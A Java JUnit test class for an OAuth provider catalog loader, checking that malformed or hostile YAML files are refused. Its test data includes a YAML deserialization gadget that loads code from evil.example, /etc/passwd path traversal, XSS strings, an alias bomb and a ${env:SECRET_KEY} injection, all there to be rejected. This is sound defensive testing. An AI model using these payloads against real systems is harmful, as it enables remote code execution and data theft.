package dev.concierge.server.catalog;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.concierge.server.catalog.Revocation.Reach;
import dev.concierge.server.catalog.Revocation.Style;
import dev.concierge.server.outbound.HostPort;
import dev.concierge.server.problem.ProblemException;
import dev.concierge.server.web.Role;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** The catalog's files: what is taken, and each way a file can be wrong. */
@Tag("flow")
class CatalogTest {
    @TempDir
    Path folder;

    private static String google() {
        try (InputStream in = CatalogTest.class.getResourceAsStream("/catalog/google.yaml")) {
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    /** A second provider, whose file differs from Google's in one place. */
    private String acme(String is, String becomes) {
        String text = google().replace("id: google", "id: acme");
        assertThat(text).contains(is);
        if (is.equals("console: https")) {
            return text.replace(is, becomes + "\n  " + is);
        }
        return text.replace(is, becomes);
    }

    private Catalog load(boolean production, String... texts) throws IOException {
        for (int i = 0; i < texts.length; i++) {
            Files.writeString(folder.resolve("file" + i + ".yaml"), texts[i]);
        }
        return Catalogs.load(production, Optional.of(folder));
    }

    private List<String> faults(boolean production, String... texts) {
        return catchThrowableOfType(CatalogException.class, () -> load(production, texts))
                .faults();
    }

    private List<String> faults(String text) {
        return faults(false, text);
    }

    @Test
    void the_built_in_catalog_loads_and_says_what_its_file_says() {
        Provider google = Catalogs.load(true, Optional.empty()).require("google");
        assertThat(google.name()).isEqualTo("Google");
        assertThat(google.authorization().issuer()).isEqualTo("https://accounts.google.com");
        assertThat(google.authorization().issuerAliases()).containsExactly("accounts.google.com");
        assertThat(google.authorization().issParameter()).isTrue();
        assertThat(google.authorization().parameters())
                .containsExactly(Map.entry("access_type", "offline"), Map.entry("prompt", "select_account consent"));
        assertThat(google.refresh())
                .isEqualTo(new RefreshRules(
                        true,
                        new OldRefreshToken.Stays(),
                        false,
                        Duration.ofDays(180),
                        null,
                        Duration.ofDays(7),
                        null));
        assertThat(google.revocation().requireCall().style()).isEqualTo(Style.TOKEN_FORM);
        assertThat(google.revocation().reach()).isEqualTo(Reach.PROJECT);
        assertThat(google.identity().algorithms()).containsExactly("RS256");
        assertThat(google.connectScopes()).hasSize(5);
        assertThat(google.api("calendar").baseUrl()).hasToString("https://www.googleapis.com/calendar/v3");
        assertThat(google.quotaTimeZone()).hasToString("America/Los_Angeles");
        assertThat(google.social()).isFalse();
        assertThat(google.allowedHosts())
                .containsExactlyInAnyOrder(
                        new HostPort("oauth2.googleapis.com", 443),
                        new HostPort("www.googleapis.com", 443),
                        new HostPort("gmail.googleapis.com", 443),
                        new HostPort("openidconnect.googleapis.com", 443));
    }

    @Test
    void scopes_are_known_by_name_and_alias_exactly() {
        Provider google = Catalogs.load(true, Optional.empty()).require("google");
        assertThat(google.canonical("https://www.googleapis.com/auth/userinfo.email"))
                .isEqualTo("email");
        assertThat(google.canonical("Email")).isEqualTo("Email");
        assertThat(google.canonical(List.of("email", "https://www.googleapis.com/auth/userinfo.email", "x")))
                .containsExactly("email", "x");
        assertThat(google.scope("openid"))
                .get()
                .extracting(Provider.Scope::scopeClass)
                .isEqualTo(ScopeClass.IDENTITY);
    }

    @Test
    void an_unknown_provider_is_not_found() {
        Catalog catalog = Catalogs.load(true, Optional.empty());
        assertThat(catalog.find("GOOGLE")).isEmpty();
        assertThatThrownBy(() -> catalog.require("../google")).isInstanceOf(ProblemException.class);
    }

    @Test
    void a_file_of_the_operator_adds_or_replaces_a_provider_outside_of_production() throws IOException {
        String replaced = google().replace("name: Google\n", "name: Sandbox\n");
        String added = acme("https://oauth2.googleapis.com/token", "http://127.0.0.1:9999/google/token");
        Catalog catalog = load(false, replaced, added);
        assertThat(catalog.require("google").name()).isEqualTo("Sandbox");
        assertThat(catalog.require("acme").allowedHosts()).contains(new HostPort("127.0.0.1", 9999));
        assertThat(catalog.all()).extracting(Provider::id).contains("acme", "google");
    }

    @Test
    void production_takes_neither_a_replaced_provider_nor_plain_http() {
        assertThat(faults(true, google()))
                .containsExactly("file0.yaml: replaces the built-in google, which production does not allow");
        assertThat(faults(true, acme("https://oauth2.googleapis.com/token", "http://oauth2.googleapis.com/token")))
                .singleElement()
                .asString()
                .matches("file0.yaml:\\d+: token.endpoint is an https URL without user, query and fragment");
    }

    @Test
    void every_fault_of_every_file_is_told_at_once_with_its_line() throws IOException {
        String text = """
                id: acme
                name: Acme
                mark: acme
                color: red
                authorization:
                  endpoint: ftp://acme.example/authorize
                  pkce: plain
                  scopeSeparator: " "
                  parameters:
                    state: evil
                token:
                  endpoint: https://acme.example/token
                  clientAuthentication: client_secret_post
                refresh:
                  supported: "yes"
                revocation:
                  style: none
                identity:
                  userinfo: https://acme.example/me
                  subject: id
                scopes:
                  - name: read
                    class: harmless
                    feature: reading
                    title: Read
                connect:
                  scopes: [read, write]
                """;
        assertThat(faults(false, text, "id: [1, 2]"))
                .contains(
                        "file0.yaml:4: unknown key color",
                        "file0.yaml:6: authorization.endpoint is an http or https URL without user, query and fragment",
                        "file0.yaml:7: authorization.pkce is one of S256, optional, refused",
                        "file0.yaml:10: authorization.parameters.state is set by the protocol itself",
                        "file0.yaml:15: refresh.supported is true or false",
                        "file0.yaml:23: scopes.class is one of identity, read, write, restricted",
                        "file0.yaml:22: the key scopes.description is missing",
                        "file0.yaml:27: connect.scopes asks for write, which scopes does not describe",
                        "file1.yaml:1: id is a text",
                        "file1.yaml:1: the key name is missing");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "id: acme|id: integrations|is a word of the API",
                "id: acme|id: connect-sessions|is a word of the API",
                "id: acme|id: Acme|lower-case letters",
                "id: acme|id: a/b|lower-case letters",
                "name: Google|name: <script>alert(1)</script>|angle bracket",
                "name: Google|name: 17|name is a text",
                "mark: google|mark: ../../etc/passwd|the name of a picture",
                "pkce: optional|pkce: plain|pkce is one of",
                "pkce: optional|pkce: none|pkce is one of",
                "algorithms: [RS256]|algorithms: [none]|not asymmetric",
                "algorithms: [RS256]|algorithms: [RS256, HS256]|not asymmetric",
                "https://oauth2.googleapis.com/token|https://user@oauth2.googleapis.com/token|without user",
                "https://oauth2.googleapis.com/token|https://oauth2.googleapis.com/token#x|without user",
                "https://oauth2.googleapis.com/token|file:///etc/passwd|http or https",
                "https://oauth2.googleapis.com/token|javascript:alert(1)|http or https",
                "oldRefreshToken: stays|oldRefreshToken: grace|refresh.grace is there exactly",
                "style: token_form|style: none|revocation.endpoint is there exactly",
                "class: identity|class: basic|class is one of",
                "loginHint: login_hint|loginHint: redirect_uri|parameter of the protocol itself",
                "access_type: offline|client_secret: x|set by the protocol itself",
                "baseUrl: https://www.googleapis.com/calendar/v3|baseUrl: https://www.googleapis.com/|ends with a slash",
                "timeZone: America/Los_Angeles|timeZone: Mars|no time zone",
                "name: openid|name: openid email|a scope of RFC 6749",
                "loginHint: login_hint|loginHintInsteadOf: [prompt]|needs authorization.loginHint",
                "pkce: optional|codeSuffix: '# _'|codeSuffix is 1 to 10 printable",
                "issParameter: true|tenantIssuer: https://x.example/{tenant}|go together",
                "issParameter: true|tenantClaim: tid|go together",
                "answer: json|request: query2|token.request is one of form, json, query",
                "accessTokenLife: PT1H|accessTokenLife: an hour|token.accessTokenLife is a duration",
                "accessTokenLife: PT1H|accessTokenLife: PT-1H|token.accessTokenLife is a duration",
                "answer: json|scopeSeparators: ';'|a blank, a comma or both",
                "text: error_description|text: er ror|a JSON pointer",
                "text: error_description|text: []|token.error.text is empty",
                "rotates: false|extension: {endpoint: 'https://x.example', grantType: g, parameter: p, share: 50}|without refresh tokens",
                "inactivity: P180D|inactivity: P99999D|refresh.inactivity is a duration",
                "reach: project|narrow: {style: none}|exactly when revocation.style is not none",
                "reach: project|tokens: some|revocation.tokens is one of all, both, access",
                "subject: sub|subject: []|identity.subject is empty",
                "subject: sub|subject: /a b|a JSON pointer",
                "picture: picture|source: profile2|identity.source is one of",
                "emailVerified: email_verified|userinfoQuery: {client_id: x}|is set by the protocol itself",
                "offered: true|offered: 1|signIn.offered is true or false",
                "feature: calendar-write|includes: [nothing]|which scopes does not describe",
                "requests: 600|requests: 0|limits.requests is a whole number",
                "per: PT1M|per: P99D|limits.per is a duration",
                "of: grant|of: everybody|limits.of is one of grant, registration",
                "batch: /batch/gmail/v1|batch: batch|batch is a path",
                "cause: rejected|cause: fatal|errors.cause is one of",
                "cause: rejected|cause: denied|where a person is present",
                "words: sign_in_policy|words: whatever|errors.words is one of",
                "at: [refresh]|at: [dinner]|errors.at is one of",
                "code: deleted_client|code: deleted client|errors.code is an error code",
                "project: google|headers: {Authorization: x}|a name that a file may not set",
                "project: google|quirks: {appSecretProof: true}|unknown key quirks.appSecretProof",
                "project: google|quirks: {emailList: 'ftp://x'}|quirks.emailList is an http or https URL",
                "project: google|choice: {one: Page, many: Pages, scope: nothing, api: calendar, path: /me/accounts, list: data, id: id, name: name, none: None.}|choice.scope names a scope",
                "project: google|choice: {one: Page, many: Pages, scope: openid, api: nothing, path: /me/accounts, list: data, id: id, name: name, none: None.}|choice.api names an API",
                "project: google|choice: {one: Page, many: Pages, scope: openid, api: calendar, path: https://x.example, list: data, id: id, name: name, none: None.}|choice.path is a path",
                "project: google|choice: {one: Page, many: Pages, scope: openid, api: calendar, path: /me/accounts, list: data, id: id, name: /a b, none: None.}|a JSON pointer",
                "project: google|choice: {one: Page}|the key choice.list is missing",
                "console: https|sharedWith: nobody|which is no provider with a registration of its own",
            })
    void a_13_and_h_08_a_wrong_value_is_a_fault(String is, String becomes, String fault) {
        assertThat(faults(acme(is, becomes)))
                .anySatisfy(line -> assertThat(line).contains(fault).matches("(file0.yaml:\\d+|acme): .*"));
    }

    @Test
    void h_08_a_bomb_of_aliases_is_refused_before_it_grows() {
        String bomb =
                "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n";
        assertThat(faults(bomb)).contains("file0.yaml:1: anchors and aliases are not allowed");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "id: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example\"]]]]",
                "id: !!str google",
                "!!map {id: google}",
                "id: !own google"
            })
    void h_08_tags_are_refused_and_construct_nothing(String text) {
        assertThat(faults(text)).anySatisfy(line -> assertThat(line).contains("tags are not allowed"));
    }

    @Test
    void h_08_size_depth_documents_encoding_and_garbage_are_refused() throws IOException {
        assertThat(faults("#" + "x".repeat(50 * 1024 * 1024))).containsExactly("file0.yaml: is larger than 256 KiB");
        assertThat(faults("a: " + "[".repeat(60) + "]".repeat(60)))
                .anySatisfy(line -> assertThat(line).contains("nested too deeply"));
        assertThat(faults("a: " + "[".repeat(100_000))).isNotEmpty();
        assertThat(faults("id: one\n---\nid: two\n"))
                .anySatisfy(line -> assertThat(line).contains("one document"));
        assertThat(faults("just text")).containsExactly("file0.yaml: holds no map of keys");
        assertThat(faults("")).containsExactly("file0.yaml: holds no map of keys");
        assertThat(faults("a: [")).anySatisfy(line -> assertThat(line).contains("is not YAML"));
        Files.write(folder.resolve("file0.yaml"), new byte[] {'a', ':', ' ', (byte) 0xff});
        assertThatThrownBy(() -> load(false)).hasMessage("file0.yaml: is not UTF-8");
    }

    @Test
    void h_08_a_key_that_is_there_twice_is_a_fault_and_expressions_stay_text() throws IOException {
        assertThat(faults(acme("id: acme", "id: acme\nid: other"))).contains("file0.yaml:4: the key id is there twice");
        Catalog catalog = load(false, acme("name: Google", "name: ${env:SECRET_KEY} #{1+1}"));
        assertThat(catalog.require("acme").name()).startsWith("${env:SECRET_KEY}");
    }

    @Test
    void two_files_with_one_id_and_a_folder_that_is_not_there_are_faults() {
        assertThat(faults(false, acme("id: acme", "id: acme"), acme("id: acme", "id: acme")))
                .containsExactly("file1.yaml: the id acme is also in file0.yaml");
        assertThatThrownBy(() -> Catalogs.load(false, Optional.of(folder.resolve("missing"))))
                .isInstanceOf(CatalogException.class)
                .hasMessageStartingWith("CATALOG_DIR cannot be read");
    }

    @Test
    void ceilings_hold_by_role_and_can_be_lowered() {
        Provider google = Catalogs.load(true, Optional.empty()).require("google");
        String write = "https://www.googleapis.com/auth/calendar.events";
        ScopeCeilings usual = new ScopeCeilings(Map.of());
        assertThat(usual.refused(Role.GUEST, google, google.connectScopes())).isEmpty();
        assertThat(usual.refused(Role.GUEST, google, List.of("openid", write))).containsExactly(write);
        assertThat(usual.refused(Role.USER, google, List.of(write))).isEmpty();
        assertThat(usual.refused(Role.ADMIN, google, List.of("unheard-of"))).containsExactly("unheard-of");
        CatalogSettings settings =
                new CatalogSettings("test", new CatalogSettings.Files("", " guest=identity, user=read "));
        ScopeCeilings lowered = new ScopeCeilings(settings.ceilings());
        assertThat(lowered.of(Role.GUEST)).isEqualTo(ScopeClass.IDENTITY);
        assertThat(lowered.refused(Role.USER, google, List.of(write))).containsExactly(write);
    }

    @ParameterizedTest
    @ValueSource(strings = {"guest", "guest=", "boss=read", "guest=everything", "guest=read,guest=write"})
    void ceilings_that_cannot_be_read_stop_the_start(String text) {
        CatalogSettings settings = new CatalogSettings("test", new CatalogSettings.Files("", text));
        assertThatThrownBy(settings::ceilings)
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageStartingWith("SCOPE_CEILINGS");
    }
}
